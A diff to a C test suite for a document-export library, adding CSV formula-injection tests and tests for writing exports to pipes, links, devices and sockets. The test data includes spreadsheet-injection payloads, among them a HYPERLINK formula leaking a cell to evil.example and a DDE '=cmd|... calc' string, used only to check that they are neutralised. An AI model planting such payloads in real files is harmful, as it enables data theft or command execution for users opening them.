@@ -6,11 +6,15 @@
  */
 #include "config.h"
 
+#include <errno.h>
+#include <fcntl.h>
 #include <string.h>
 #include <sys/stat.h>
+#include <sys/sysmacros.h>
 #include <unistd.h>
 
 #include <glib/gstdio.h>
+#include <gio/gunixsocketaddress.h>
 #include <dossier/dossier.h>
 
 #include "dossier-export-private.h"
@@ -232,7 +236,7 @@ export_string (DossierProject      *project,
   g_autoptr(GOutputStream) out = g_memory_output_stream_new_resizable ();
   DossierExportFilter filter = { document_id, tag_id };
 
-  if (!dossier_export_to_stream (project, format, &filter, out, NULL, error))
+  if (!dossier_export_to_stream (project, format, &filter, NULL, out, NULL, error))
     return NULL;
   g_assert_true (g_output_stream_write_all (out, "", 1, NULL, NULL, NULL));
   g_assert_true (g_output_stream_close (out, NULL, NULL));
@@ -368,6 +372,21 @@ test_csv_field (void)
     { "cr\rhere", "\"cr\rhere\"" },
     { "tab\tonly", "tab\tonly" },
     { " spaced ", " spaced " },
+    /* What a spreadsheet would run as a formula: quoted, with an
+     * apostrophe in front (OWASP), quotes still doubled. */
+    { "=1+1", "\"'=1+1\"" },
+    { "=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")",
+      "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Click\"\")\"" },
+    { "+1 555 0100", "\"'+1 555 0100\"" },
+    { "-5 °C overnight", "\"'-5 °C overnight\"" },
+    { "-", "\"'-\"" },
+    { "@SUM(A1:A9)", "\"'@SUM(A1:A9)\"" },
+    { "\tcmd", "\"'\tcmd\"" },
+    { "\r=cmd", "\"'\r=cmd\"" },
+    /* Only the first character counts. */
+    { "a=1", "a=1" },
+    { "5-3", "5-3" },
+    { " =1", " =1" },
   };
 
   for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
@@ -735,6 +754,137 @@ test_csv_tag_filter (Fixture       *f,
     g_assert_nonnull (strstr (lines[i], " Costs "));
 }
 
+/* RFC 4180 read back without Python: rows of fields, CRLF between rows. */
+static GPtrArray *
+parse_csv (const char *csv)
+{
+  GPtrArray *rows = g_ptr_array_new_with_free_func ((GDestroyNotify) g_ptr_array_unref);
+  GPtrArray *row = g_ptr_array_new_with_free_func (g_free);
+  GString *field = g_string_new (NULL);
+  const char *p = csv;
+
+  while (*p)
+    {
+      if (*p == '"')
+        {
+          for (p++; ; p++)
+            {
+              g_assert_true (*p != '\0');  /* an unterminated quoted field */
+              if (*p == '"' && p[1] == '"')
+                {
+                  g_string_append_c (field, '"');
+                  p++;
+                }
+              else if (*p == '"')
+                break;
+              else
+                g_string_append_c (field, *p);
+            }
+          p++;
+          g_assert_true (*p == ',' || *p == '\r' || *p == '\0');
+        }
+      while (*p && *p != ',' && *p != '\r')
+        {
+          g_assert_true (*p != '"' && *p != '\n');  /* bare quote or LF: not RFC 4180 */
+          g_string_append_c (field, *p++);
+        }
+      g_ptr_array_add (row, g_strdup (field->str));
+      g_string_truncate (field, 0);
+      if (*p == ',')
+        p++;
+      else if (*p == '\r')
+        {
+          g_assert_true (p[1] == '\n');
+          p += 2;
+          g_ptr_array_add (rows, row);
+          row = g_ptr_array_new_with_free_func (g_free);
+        }
+    }
+  g_assert_cmpuint (row->len, ==, 0);  /* the last row ends with CRLF too */
+  g_ptr_array_unref (row);
+  g_string_free (field, TRUE);
+  return rows;
+}
+
+static const char *
+csv_cell (GPtrArray *rows,
+          guint      row,
+          guint      column)
+{
+  GPtrArray *r = g_ptr_array_index (rows, row);
+
+  g_assert_cmpuint (column, <, r->len);
+  return g_ptr_array_index (r, column);
+}
+
+/* Quotes, titles, tag names, memos and authors that a spreadsheet would
+ * run: every one comes out as text with a leading apostrophe, and that is
+ * the only change (a quote that really starts with "-" included). */
+static void
+test_csv_formulas (void)
+{
+  static const char text[] =
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")\n\n"
+    "+1 555 0100 is the number to call.\n\n"
+    "-5 °C overnight, said the forecast.\n\n"
+    "@everyone should read this.\n\n"
+    "\tIndented by a tab.\n\n"
+    "An ordinary line, with a comma.";
+  static const char *quotes[] = {
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+    "+1 555 0100",
+    "-5 °C overnight",
+    "@everyone",
+    "\tIndented by a tab.",
+    "An ordinary line, with a comma.",
+  };
+  g_autoptr(GError) error = NULL;
+  g_autofree char *dir = g_dir_make_tmp ("dossier-test-export-XXXXXX", &error);
+  g_autofree char *path = g_build_filename (dir, "formulas.dossier", NULL);
+  g_autoptr(DossierProject) project = dossier_project_create (path, "Formulas", &error);
+  g_autoptr(GPtrArray) rows = NULL;
+  g_autofree char *csv = NULL;
+  gint64 doc, tag;
+
+  g_assert_no_error (error);
+  dossier_project_set_author (project, "+Author");
+  doc = add_document (project, "@SUM(1+1)", NULL, NULL, text);
+  tag = add_tag (project, "=cmd|' -C calc'!A0", 0, NULL);
+  for (guint i = 0; i < G_N_ELEMENTS (quotes); i++)
+    add_highlight (project, doc, text, quotes[i], &tag, 1, i == 0 ? "-not a formula, a memo" : NULL);
+
+  csv = export_string (project, DOSSIER_EXPORT_CSV, 0, 0, &error);
+  g_assert_no_error (error);
+  rows = parse_csv (csv);
+  g_assert_cmpuint (rows->len, ==, 1 + G_N_ELEMENTS (quotes));
+
+  for (guint i = 0; i < G_N_ELEMENTS (quotes); i++)
+    {
+      guint r = i + 1;
+      g_autofree char *neutral = g_strconcat ("'", quotes[i], NULL);
+
+      g_assert_cmpstr (csv_cell (rows, r, 0), ==, "'@SUM(1+1)");
+      g_assert_cmpstr (csv_cell (rows, r, 2), ==, "'=cmd|' -C calc'!A0");
+      g_assert_cmpstr (csv_cell (rows, r, 5), ==, i < 5 ? neutral : quotes[i]);
+      g_assert_cmpstr (csv_cell (rows, r, 6), ==, i == 0 ? "'-not a formula, a memo" : "");
+      g_assert_cmpstr (csv_cell (rows, r, 7), ==, "'+Author");
+    }
+  /* On the wire: always inside quotes, the apostrophe first. */
+  g_assert_nonnull (strstr (csv, ",\"'-5 °C overnight\","));
+  g_assert_nonnull (strstr (csv, ",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\","));
+  g_assert_nonnull (strstr (csv, ",\"An ordinary line, with a comma.\","));
+  /* JSON keeps the exact quote. */
+  {
+    g_autofree char *json = export_string (project, DOSSIER_EXPORT_JSON, 0, 0, &error);
+
+    g_assert_no_error (error);
+    g_assert_nonnull (strstr (json, "\"quote\": \"-5 °C overnight\""));
+  }
+
+  dossier_project_close (project);
+  remove_tree (dir);
+}
+
 /* ---- Summaries --------------------------------------------------------- */
 
 static void
@@ -930,7 +1080,7 @@ test_to_file (Fixture       *f,
   g_assert_cmpint (g_mkdir (out_dir, 0755), ==, 0);
 
   g_assert_true (g_file_set_contents (path, "old contents", -1, NULL));
-  g_assert_true (dossier_export_to_file (f->project, DOSSIER_EXPORT_MARKDOWN, NULL, path, NULL, &error));
+  g_assert_true (dossier_export_to_file (f->project, DOSSIER_EXPORT_MARKDOWN, NULL, NULL, path, NULL, &error));
   g_assert_no_error (error);
   g_assert_true (g_file_get_contents (path, &contents, NULL, NULL));
   g_assert_cmpstr (contents, ==, expected);
@@ -958,19 +1108,19 @@ test_to_file_failures (Fixture       *f,
   g_assert_true (g_file_set_contents (path, "previous export", -1, NULL));
 
   /* A folder that does not exist: an I/O error naming the path. */
-  g_assert_false (dossier_export_to_file (f->project, DOSSIER_EXPORT_JSON, NULL, missing, NULL, &error));
+  g_assert_false (dossier_export_to_file (f->project, DOSSIER_EXPORT_JSON, NULL, NULL, missing, NULL, &error));
   g_assert_error (error, DOSSIER_EXPORT_ERROR, DOSSIER_EXPORT_ERROR_IO);
   g_assert_nonnull (strstr (error->message, missing));
   g_clear_error (&error);
 
   /* A path under a regular file. */
-  g_assert_false (dossier_export_to_file (f->project, DOSSIER_EXPORT_JSON, NULL, under_file, NULL, &error));
+  g_assert_false (dossier_export_to_file (f->project, DOSSIER_EXPORT_JSON, NULL, NULL, under_file, NULL, &error));
   g_assert_error (error, DOSSIER_EXPORT_ERROR, DOSSIER_EXPORT_ERROR_IO);
   g_assert_nonnull (strstr (error->message, under_file));
   g_clear_error (&error);
 
   /* A folder as the destination. */
-  g_assert_false (dossier_export_to_file (f->project, DOSSIER_EXPORT_CSV, NULL, out_dir, NULL, &error));
+  g_assert_false (dossier_export_to_file (f->project, DOSSIER_EXPORT_CSV, NULL, NULL, out_dir, NULL, &error));
   g_assert_error (error, DOSSIER_EXPORT_ERROR, DOSSIER_EXPORT_ERROR_IO);
   g_assert_nonnull (strstr (error->message, out_dir));
   g_clear_error (&error);
@@ -979,11 +1129,11 @@ test_to_file_failures (Fixture       *f,
   /* Cancelled, and a filter naming nothing: the previous file is intact
    * and no temporary file is left. */
   g_cancellable_cancel (cancellable);
-  g_assert_false (dossier_export_to_file (f->project, DOSSIER_EXPORT_JSON, NULL, path, cancellable, &error));
+  g_assert_false (dossier_export_to_file (f->project, DOSSIER_EXPORT_JSON, NULL, NULL, path, cancellable, &error));
   g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
   g_clear_error (&error);
 
-  g_assert_false (dossier_export_to_file (f->project, DOSSIER_EXPORT_JSON, &bad_filter, path, NULL, &error));
+  g_assert_false (dossier_export_to_file (f->project, DOSSIER_EXPORT_JSON, &bad_filter, NULL, path, NULL, &error));
   g_assert_error (error, DOSSIER_EXPORT_ERROR, DOSSIER_EXPORT_ERROR_NOT_FOUND);
   g_clear_error (&error);
 
@@ -999,12 +1149,275 @@ test_to_file_failures (Fixture       *f,
 
       if (stream != NULL)
         {
-          g_assert_false (dossier_export_to_stream (f->project, DOSSIER_EXPORT_JSON, NULL,
+          g_assert_false (dossier_export_to_stream (f->project, DOSSIER_EXPORT_JSON, NULL, NULL,
                                                     G_OUTPUT_STREAM (stream), NULL, &error));
           g_assert_error (error, G_IO_ERROR, G_IO_ERROR_NO_SPACE);
           g_clear_error (&error);
         }
     }
+}
+
+/* Reads a pipe to its end in a thread, as `cat FIFO` would. */
+typedef struct
+{
+  char    *path;  /* a FIFO to open, or NULL to read @fd */
+  int      fd;
+  GString *data;
+} PipeReader;
+
+static gpointer
+read_pipe (gpointer user_data)
+{
+  PipeReader *reader = user_data;
+  int fd = reader->path != NULL ? open (reader->path, O_RDONLY | O_CLOEXEC) : reader->fd;
+  char buf[4096];
+  gssize n;
+
+  g_assert_cmpint (fd, >=, 0);
+  while ((n = read (fd, buf, sizeof buf)) > 0)
+    g_string_append_len (reader->data, buf, n);
+  close (fd);
+  return NULL;
+}
+
+static void
+assert_file_type (const char *path,
+                  mode_t      type)
+{
+  struct stat st;
+
+  g_assert_cmpint (lstat (path, &st), ==, 0);
+  g_assert_cmpint (st.st_mode & S_IFMT, ==, type);
+}
+
+/* What is not a regular file is never replaced by one: pipes and devices
+ * are written through, links followed, the rest refused. */
+static void
+test_to_file_kinds (Fixture       *f,
+                    gconstpointer  data)
+{
+  g_autoptr(GError) error = NULL;
+  g_autofree char *expected = export_ok (f, DOSSIER_EXPORT_CSV, 0, 0);
+  g_autofree char *dir = g_build_filename (f->dir, "kinds", NULL);
+  g_autofree char *fifo = g_build_filename (dir, "pipe.csv", NULL);
+  g_autofree char *target = g_build_filename (dir, "target.csv", NULL);
+  g_autofree char *link = g_build_filename (dir, "link.csv", NULL);
+  g_autofree char *chain = g_build_filename (dir, "chain.csv", NULL);
+  g_autofree char *dangling = g_build_filename (dir, "dangling.csv", NULL);
+  g_autofree char *created = g_build_filename (dir, "created-by-link.csv", NULL);
+  g_autofree char *loop_a = g_build_filename (dir, "loop-a", NULL);
+  g_autofree char *loop_b = g_build_filename (dir, "loop-b", NULL);
+  g_autofree char *subdir = g_build_filename (dir, "folder.csv", NULL);
+  g_autofree char *dir_link = g_build_filename (dir, "folder-link.csv", NULL);
+  g_autofree char *read_only = g_build_filename (dir, "read-only.csv", NULL);
+  g_autofree char *contents = NULL;
+  g_autofree char *link_target = NULL;
+  struct stat st;
+
+  g_assert_cmpint (g_mkdir (dir, 0755), ==, 0);
+
+  /* A FIFO: written through to its reader, still a FIFO, nothing beside. */
+  {
+    PipeReader reader = { fifo, -1, g_string_new (NULL) };
+    GThread *thread;
+
+    g_assert_cmpint (mkfifo (fifo, 0644), ==, 0);
+    thread = g_thread_new ("reader", read_pipe, &reader);
+    g_assert_true (dossier_export_to_file (f->project, DOSSIER_EXPORT_CSV, NULL, NULL, fifo, NULL, &error));
+    g_assert_no_error (error);
+    g_thread_join (thread);
+    g_assert_cmpstr (reader.data->str, ==, expected);
+    g_string_free (reader.data, TRUE);
+    assert_file_type (fifo, S_IFIFO);
+    g_assert_cmpuint (count_files (dir), ==, 1);
+  }
+
+  /* /dev/null: a character device, written through, left as it is. */
+  g_assert_true (dossier_export_to_file (f->project, DOSSIER_EXPORT_CSV, NULL, NULL, "/dev/null",
+                                         NULL, &error));
+  g_assert_no_error (error);
+  assert_file_type ("/dev/null", S_IFCHR);
+
+  /* A descriptor by name (/dev/fd/N, /proc/self/fd/N), as /dev/stdout. */
+  {
+    const char *forms[] = { "/dev/fd/", "/proc/self/fd/" };
+
+    for (guint i = 0; i < G_N_ELEMENTS (forms); i++)
+      {
+        PipeReader reader = { NULL, -1, g_string_new (NULL) };
+        g_autofree char *name = NULL;
+        GThread *thread;
+        int fds[2];
+
+        g_assert_cmpint (pipe (fds), ==, 0);
+        reader.fd = fds[0];
+        name = g_strdup_printf ("%s%d", forms[i], fds[1]);
+        thread = g_thread_new ("reader", read_pipe, &reader);
+        g_assert_true (dossier_export_to_file (f->project, DOSSIER_EXPORT_CSV, NULL, NULL, name,
+                                               NULL, &error));
+        g_assert_no_error (error);
+        close (fds[1]);
+        g_thread_join (thread);
+        g_assert_cmpstr (reader.data->str, ==, expected);
+        g_string_free (reader.data, TRUE);
+      }
+  }
+
+  /* A symbolic link (through another): the target is replaced, keeping
+   * its permissions, and both links stay links to it. */
+  g_assert_true (g_file_set_contents (target, "old", -1, NULL));
+  g_assert_cmpint (g_chmod (target, 0600), ==, 0);
+  g_assert_cmpint (symlink ("target.csv", link), ==, 0);
+  g_assert_cmpint (symlink (link, chain), ==, 0);
+  g_assert_true (dossier_export_to_file (f->project, DOSSIER_EXPORT_CSV, NULL, NULL, chain, NULL, &error));
+  g_assert_no_error (error);
+  assert_file_type (link, S_IFLNK);
+  assert_file_type (chain, S_IFLNK);
+  link_target = g_file_read_link (link, NULL);
+  g_assert_cmpstr (link_target, ==, "target.csv");
+  g_assert_true (g_file_get_contents (target, &contents, NULL, NULL));
+  g_assert_cmpstr (contents, ==, expected);
+  g_clear_pointer (&contents, g_free);
+  g_assert_cmpint (g_stat (target, &st), ==, 0);
+  g_assert_cmpint (st.st_mode & 0777, ==, 0600);
+
+  /* A link to a name that does not exist yet: the file is made there. */
+  g_assert_cmpint (symlink ("created-by-link.csv", dangling), ==, 0);
+  g_assert_true (dossier_export_to_file (f->project, DOSSIER_EXPORT_CSV, NULL, NULL, dangling,
+                                         NULL, &error));
+  g_assert_no_error (error);
+  assert_file_type (dangling, S_IFLNK);
+  assert_file_type (created, S_IFREG);
+  g_assert_true (g_file_get_contents (created, &contents, NULL, NULL));
+  g_assert_cmpstr (contents, ==, expected);
+  g_clear_pointer (&contents, g_free);
+
+  /* A loop of links, a folder and a link to it, a read-only file:
+   * refused with a message naming the path; all left as they were. */
+  g_assert_cmpint (symlink ("loop-b", loop_a), ==, 0);
+  g_assert_cmpint (symlink ("loop-a", loop_b), ==, 0);
+  g_assert_cmpint (g_mkdir (subdir, 0755), ==, 0);
+  g_assert_cmpint (symlink ("folder.csv", dir_link), ==, 0);
+  g_assert_true (g_file_set_contents (read_only, "keep me", -1, NULL));
+  g_assert_cmpint (g_chmod (read_only, 0444), ==, 0);
+  {
+    const char *refused[] = { loop_a, subdir, dir_link, read_only };
+
+    for (guint i = 0; i < G_N_ELEMENTS (refused); i++)
+      {
+        g_assert_false (dossier_export_to_file (f->project, DOSSIER_EXPORT_CSV, NULL, NULL,
+                                                refused[i], NULL, &error));
+        g_assert_error (error, DOSSIER_EXPORT_ERROR, DOSSIER_EXPORT_ERROR_IO);
+        g_assert_nonnull (strstr (error->message, refused[i]));
+        g_clear_error (&error);
+      }
+  }
+  assert_file_type (loop_a, S_IFLNK);
+  assert_file_type (subdir, S_IFDIR);
+  assert_file_type (dir_link, S_IFLNK);
+  g_assert_true (g_file_get_contents (read_only, &contents, NULL, NULL));
+  g_assert_cmpstr (contents, ==, "keep me");
+  g_clear_pointer (&contents, g_free);
+
+  /* Nothing left behind: no temporary file anywhere. */
+  g_assert_cmpuint (count_files (dir), ==, 11);
+  g_assert_cmpint (g_chmod (read_only, 0644), ==, 0);
+}
+
+static gpointer
+cancel_soon (gpointer user_data)
+{
+  g_usleep (50 * 1000);
+  g_cancellable_cancel (user_data);
+  return NULL;
+}
+
+/* A FIFO that nobody reads: the export waits for a reader (as a shell
+ * redirection would) and a cancel ends the wait; the FIFO stays. */
+static void
+test_to_fifo_cancelled (Fixture       *f,
+                        gconstpointer  data)
+{
+  g_autoptr(GError) error = NULL;
+  g_autoptr(GCancellable) cancellable = g_cancellable_new ();
+  g_autofree char *fifo = g_build_filename (f->dir, "nobody-reads", NULL);
+  GThread *thread;
+
+  g_assert_cmpint (mkfifo (fifo, 0644), ==, 0);
+  thread = g_thread_new ("cancel", cancel_soon, cancellable);
+  g_assert_false (dossier_export_to_file (f->project, DOSSIER_EXPORT_JSON, NULL, NULL, fifo,
+                                          cancellable, &error));
+  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
+  g_thread_join (thread);
+  assert_file_type (fifo, S_IFIFO);
+}
+
+/* Device nodes: as root (who could destroy them) with nodes made for the
+ * test: a "full" device reports the error and stays a device, a "null"
+ * one takes the export, a block device and a socket are refused. Without
+ * root, a socket only. */
+static void
+test_to_devices (Fixture       *f,
+                 gconstpointer  data)
+{
+  g_autoptr(GError) error = NULL;
+  g_autofree char *full = g_build_filename (f->dir, "full", NULL);
+  g_autofree char *null = g_build_filename (f->dir, "null", NULL);
+  g_autofree char *block = g_build_filename (f->dir, "block", NULL);
+  g_autofree char *socket_path = g_build_filename (f->dir, "socket", NULL);
+  g_autoptr(GSocket) sock = NULL;
+  g_autoptr(GSocketAddress) address = NULL;
+  struct stat st;
+
+  sock = g_socket_new (G_SOCKET_FAMILY_UNIX, G_SOCKET_TYPE_STREAM, G_SOCKET_PROTOCOL_DEFAULT, &error);
+  g_assert_no_error (error);
+  address = g_unix_socket_address_new (socket_path);
+  g_assert_true (g_socket_bind (sock, address, FALSE, &error));
+  g_assert_no_error (error);
+  g_assert_false (dossier_export_to_file (f->project, DOSSIER_EXPORT_CSV, NULL, NULL, socket_path,
+                                          NULL, &error));
+  g_assert_error (error, DOSSIER_EXPORT_ERROR, DOSSIER_EXPORT_ERROR_IO);
+  g_assert_nonnull (strstr (error->message, "socket"));
+  g_clear_error (&error);
+  assert_file_type (socket_path, S_IFSOCK);
+
+  if (geteuid () != 0)
+    {
+      g_test_message ("not root: device nodes cannot be made; the FIFO tests cover write-through");
+      return;
+    }
+
+  /* Linux's memory devices: 1,7 is full, 1,3 null; 1,0 is a RAM disk
+   * block device, never opened here. */
+  g_assert_cmpint (mknod (full, S_IFCHR | 0666, makedev (1, 7)), ==, 0);
+  g_assert_cmpint (mknod (null, S_IFCHR | 0666, makedev (1, 3)), ==, 0);
+  g_assert_cmpint (mknod (block, S_IFBLK | 0600, makedev (1, 0)), ==, 0);
+
+  g_assert_false (dossier_export_to_file (f->project, DOSSIER_EXPORT_JSON, NULL, NULL, full,
+                                          NULL, &error));
+  g_assert_error (error, DOSSIER_EXPORT_ERROR, DOSSIER_EXPORT_ERROR_IO);
+  g_assert_nonnull (strstr (error->message, full));
+  g_assert_nonnull (strstr (error->message, g_strerror (ENOSPC)));
+  g_clear_error (&error);
+  g_assert_cmpint (lstat (full, &st), ==, 0);
+  g_assert_true (S_ISCHR (st.st_mode));
+  g_assert_cmpuint (st.st_rdev, ==, makedev (1, 7));
+
+  g_assert_true (dossier_export_to_file (f->project, DOSSIER_EXPORT_JSON, NULL, NULL, null,
+                                         NULL, &error));
+  g_assert_no_error (error);
+  g_assert_cmpint (lstat (null, &st), ==, 0);
+  g_assert_true (S_ISCHR (st.st_mode));
+  g_assert_cmpuint (st.st_rdev, ==, makedev (1, 3));
+
+  g_assert_false (dossier_export_to_file (f->project, DOSSIER_EXPORT_JSON, NULL, NULL, block,
+                                          NULL, &error));
+  g_assert_error (error, DOSSIER_EXPORT_ERROR, DOSSIER_EXPORT_ERROR_IO);
+  g_assert_nonnull (strstr (error->message, "disk device"));
+  g_clear_error (&error);
+  g_assert_cmpint (lstat (block, &st), ==, 0);
+  g_assert_true (S_ISBLK (st.st_mode));
+  g_assert_cmpuint (st.st_rdev, ==, makedev (1, 0));
 }
 
 /* Cancelled before it starts: no format writes anything. */
@@ -1017,7 +1430,7 @@ test_cancel_mid_stream (Fixture       *f,
   g_autoptr(GOutputStream) out = g_memory_output_stream_new_resizable ();
 
   g_cancellable_cancel (cancellable);
-  g_assert_false (dossier_export_to_stream (f->project, DOSSIER_EXPORT_HTML, NULL, out,
+  g_assert_false (dossier_export_to_stream (f->project, DOSSIER_EXPORT_HTML, NULL, NULL, out,
                                             cancellable, &error));
   g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
 }
@@ -1089,6 +1502,7 @@ main (int    argc,
   g_test_add_func ("/dossier/export/json-escape", test_json_escape);
   g_test_add_func ("/dossier/export/csv-field", test_csv_field);
   g_test_add_func ("/dossier/export/format-names", test_format_names);
+  g_test_add_func ("/dossier/export/csv-formulas", test_csv_formulas);
 
 #define ADD(name, func) \
   g_test_add ("/dossier/export/" name, Fixture, NULL, fixture_set_up, func, fixture_tear_down)
@@ -1106,6 +1520,9 @@ main (int    argc,
   ADD ("html-structure", test_html_structure);
   ADD ("to-file", test_to_file);
   ADD ("to-file-failures", test_to_file_failures);
+  ADD ("to-file-kinds", test_to_file_kinds);
+  ADD ("to-fifo-cancelled", test_to_fifo_cancelled);
+  ADD ("to-devices", test_to_devices);
   ADD ("cancel", test_cancel_mid_stream);
 #undef ADD
 
